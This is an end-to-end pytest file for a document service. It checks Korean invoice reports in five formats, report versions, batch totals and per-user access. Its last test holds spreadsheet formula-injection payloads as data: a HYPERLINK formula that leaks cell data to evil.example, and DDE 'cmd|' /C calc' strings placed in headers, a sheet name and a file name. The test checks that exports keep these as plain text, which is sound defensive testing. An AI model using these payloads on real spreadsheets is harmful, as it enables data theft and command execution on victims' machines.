"""Reports of a Korean invoice in every format, opened with real readers; versions; batch summaries."""

from __future__ import annotations

import io
import re
from html.parser import HTMLParser

import pytest

from tests.support.client import ApiClient
from tests.support.documents import korean_invoice_pdf
from tests.support.stack import Stack

pytestmark = pytest.mark.e2e

NUMBER, SUPPLIER, TOTAL_TEXT, TOTAL = "INV-2026-0315", "주식회사 한빛상사", "1,210,000원", 1_210_000


class _Html(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tables = 0
        self.external: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tables += tag == "table"
        for name, value in attrs:
            if name in ("src", "href") and value and re.match(r"^(https?:)?//", value):
                self.external.append(value)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _completed_invoice(client: ApiClient, **kwargs: object) -> str:
    document_id = client.upload_bytes(korean_invoice_pdf(**kwargs), "거래명세서.pdf").json()["data"]["id"]  # type: ignore[arg-type]
    assert client.wait_for(document_id)["status"] == "completed"
    return document_id


def _download(client: ApiClient, document_id: str, report_id: str, fmt: str) -> bytes:
    r = client.get(f"/api/documents/{document_id}/reports/{report_id}/download", params={"format": fmt})
    assert r.status_code == 200, r.text
    assert "filename*=UTF-8''" in r.headers["content-disposition"]
    return r.content


def test_invoice_report_in_five_formats(client: ApiClient) -> None:
    document_id = _completed_invoice(client)
    (summary,) = client.get(f"/api/documents/{document_id}/reports").json()["data"]
    assert summary["formats"] == ["json", "md", "html", "xlsx", "pdf"] and summary["version"] == 1
    report_id = summary["id"]

    import json

    report = json.loads(_download(client, document_id, report_id, "json"))
    assert report["headline"]["document_number"] == NUMBER
    assert report["headline"]["counterparty"] == SUPPLIER
    assert report["headline"]["total"] == {"amount": TOTAL, "currency": "KRW", "text": TOTAL_TEXT}
    assert report["headline"]["document_date"] == "2026-03-15"
    assert report["headline"]["business_number"] == "220-81-62517"
    assert NUMBER in report["title"]

    markdown = _download(client, document_id, report_id, "md").decode("utf-8")
    for fact in (NUMBER, SUPPLIER, TOTAL_TEXT):
        assert fact in markdown
    table_lines = [line for line in markdown.splitlines() if line.startswith("|")]
    blocks: list[list[str]] = []
    for line in markdown.splitlines():
        if line.startswith("|"):
            if not blocks or not blocks[-1]:
                blocks.append([])
            blocks[-1].append(line)
        elif blocks and blocks[-1]:
            blocks.append([])
    for block in filter(None, blocks):  # well-formed: a separator row, the same cell count on every row
        assert re.fullmatch(r"\|(---\|)+", block[1])
        widths = {len(re.findall(r"(?<!\\)\|", row)) for row in block}
        assert len(widths) == 1, block
    assert table_lines

    page = _Html()
    page.feed(_download(client, document_id, report_id, "html").decode("utf-8"))
    assert page.tables >= 3 and page.external == []
    html_text = " ".join(page.text)
    for fact in (NUMBER, SUPPLIER, TOTAL_TEXT):
        assert fact in html_text

    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(_download(client, document_id, report_id, "xlsx")))
    assert workbook.sheetnames[:3] == ["Summary", "Key-Values", "Entities"]
    summary_rows = {row[0]: row[1:] for row in workbook["Summary"].iter_rows(values_only=True) if row[0]}
    assert summary_rows["합계 / Total"][0] == TOTAL and summary_rows["합계 / Total"][1] == "KRW"
    pairs = {row[0]: row[1] for row in workbook["Key-Values"].iter_rows(min_row=2, values_only=True)}
    assert pairs["송장번호"] == NUMBER and pairs["공급자"] == SUPPLIER
    assert workbook["Key-Values"].freeze_panes == "A2"
    date_cell = next(c for c in workbook["Key-Values"]["C"] if c.row > 1 and c.is_date)
    assert date_cell.value.date().isoformat() == "2026-03-15"

    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(_download(client, document_id, report_id, "pdf")))
    pdf_text = "".join(page.extract_text() for page in reader.pages)
    for fact in ("거래명세서", NUMBER, SUPPLIER, TOTAL_TEXT):
        assert fact in pdf_text
    fonts = [
        font.get_object()
        for page in reader.pages
        for font in page["/Resources"]["/Font"].values()
    ]  # fmt: skip
    assert any("NanumGothic" in str(f["/BaseFont"]) and "/FontFile2" in f["/FontDescriptor"] for f in fonts)

    bad = client.get(f"/api/documents/{document_id}/reports/{report_id}/download", params={"format": "docx"})
    assert bad.status_code == 400 and bad.json()["error_code"] == "UNSUPPORTED_REPORT_FORMAT"
    assert bad.json()["details"]["supported_formats"] == ["json", "md", "html", "xlsx", "pdf"]


def test_reprocess_adds_a_version_and_keeps_the_first(client: ApiClient) -> None:
    document_id = _completed_invoice(client)
    assert client.post(f"/api/documents/{document_id}/reprocess").status_code == 202
    assert client.wait_for(document_id)["status"] == "completed"
    versions = client.get(f"/api/documents/{document_id}/reports").json()["data"]
    assert [v["version"] for v in versions] == [2, 1]
    for version in versions:
        pdf = _download(client, document_id, version["id"], "pdf")
        assert pdf.startswith(b"%PDF")


def test_batch_summary_sums_three_invoices(client: ApiClient) -> None:
    ids = [
        _completed_invoice(client, number="INV-1", supplier="주식회사 한빛상사", items=(("의자", 1, 100_000),)),
        _completed_invoice(client, number="INV-2", supplier="주식회사 한빛상사", items=(("책상", 2, 250_000),)),
        _completed_invoice(client, number="INV-3", supplier="주식회사 바다물산", items=(("모니터", 3, 300_000),)),
    ]
    totals = [110_000, 550_000, 990_000]
    r = client.post("/api/reports/summary", json={"document_ids": ids, "title": "3월 송장"})
    assert r.status_code == 200, r.text
    summary = r.json()["data"]
    documents, by_currency, by_party = summary["tables"]
    assert [row[3] for row in documents["rows"]] == totals
    assert by_currency["rows"] == [["KRW", sum(totals)]]
    assert sorted(by_party["rows"]) == [["주식회사 바다물산", "KRW", 990_000], ["주식회사 한빛상사", "KRW", 660_000]]

    xlsx = client.post("/api/reports/summary", params={"format": "xlsx"}, json={"document_ids": ids})
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(xlsx.content))
    currency_sheet = next(ws for ws in workbook.worksheets if ws.title.startswith("Totals by currency"))
    assert list(currency_sheet.iter_rows(min_row=2, values_only=True)) == [("KRW", sum(totals))]

    by_filter = client.post("/api/reports/summary", json={"filter": {"file_type": "pdf", "status": "completed"}})
    assert by_filter.json()["data"]["tables"][1]["rows"][0][1] >= sum(totals)


def test_reports_of_other_users_are_not_found(live_stack: Stack, client: ApiClient) -> None:
    document_id = _completed_invoice(client)
    report_id = client.get(f"/api/documents/{document_id}/reports").json()["data"][0]["id"]
    stranger = ApiClient(live_stack.base_url)
    stranger.register_and_login()
    r = stranger.get(f"/api/documents/{document_id}/reports/{report_id}/download", params={"format": "pdf"})
    assert r.status_code == 404
    r = stranger.post("/api/reports/summary", json={"document_ids": [document_id]})
    assert r.status_code == 404 and r.json()["error_code"] == "DOCUMENT_NOT_FOUND"


HOSTILE_HEADERS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "금액",
]
HOSTILE_SHEET = "=cmd|' -C calc'!A0"
HOSTILE_UPLOAD_NAME = "=SUM(1+1)*cmd|' -C calc'!A0.xlsx"


def _hostile_workbook() -> bytes:
    """A workbook whose text cells start with formula triggers: stored as text, as an attacker's
    spreadsheet program would save "'=..." cells, so the service reads them as plain strings."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = HOSTILE_SHEET
    rows = [HOSTILE_HEADERS, ["-2+3+cmd|' /C calc'!A0", "=1+1", "{=SUM(A1:A3)}", 1000]]
    rows += [[f"=ROW() item {n}", f"@item {n}", f"+{n}", 100 * n] for n in range(1, 6)]
    for r, values in enumerate(rows, start=1):
        for c, value in enumerate(values, start=1):
            cell = sheet.cell(row=r, column=c, value=value)
            if isinstance(value, str):
                cell.data_type = "s"  # openpyxl would otherwise save "=..." as a formula
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_hostile_spreadsheet_and_file_name_never_become_formulas(client: ApiClient) -> None:
    from openpyxl import load_workbook

    r = client.upload_bytes(_hostile_workbook(), HOSTILE_UPLOAD_NAME)
    assert r.status_code == 202, r.text
    document_id = r.json()["data"]["id"]
    assert client.wait_for(document_id)["status"] == "completed"
    report_id = client.get(f"/api/documents/{document_id}/reports").json()["data"][0]["id"]
    import json

    report = json.loads(_download(client, document_id, report_id, "json"))
    assert report["document"]["filename"] == HOSTILE_UPLOAD_NAME
    (table,) = [t for t in report["tables"] if t["title"].startswith(HOSTILE_SHEET)]
    assert table["header"] == HOSTILE_HEADERS

    workbook = load_workbook(io.BytesIO(_download(client, document_id, report_id, "xlsx")))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert HOSTILE_UPLOAD_NAME in texts and report["title"] in texts
    assert {*HOSTILE_HEADERS, "-2+3+cmd|' /C calc'!A0", "=1+1", "{=SUM(A1:A3)}", "@item 1"} <= texts
    table_sheet = workbook.worksheets[3]
    assert [c.value for c in table_sheet[1]] == HOSTILE_HEADERS and {c.data_type for c in table_sheet[1]} == {"s"}
    assert table_sheet.title == "=cmd|' -C calc'!A0 A1_D7"  # "A1:D7": ':' is not allowed in sheet names
    assert table_sheet["D2"].value == 1000 and table_sheet["D2"].data_type == "n"

    summary_title = '=HYPERLINK("http://evil.example","summary")'
    r = client.post(
        "/api/reports/summary", params={"format": "xlsx"}, json={"document_ids": [document_id], "title": summary_title}
    )
    assert r.status_code == 200, r.text
    summary = load_workbook(io.BytesIO(r.content))
    cells = [cell for sheet in summary.worksheets for row in sheet.iter_rows() for cell in row if cell.value]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert (summary["Summary"]["A1"].value, summary["Summary"]["A1"].data_type) == (summary_title, "s")
    documents = next(ws for ws in summary.worksheets if ws.title == "Documents")
    assert (documents["A2"].value, documents["A2"].data_type) == (HOSTILE_UPLOAD_NAME, "s")
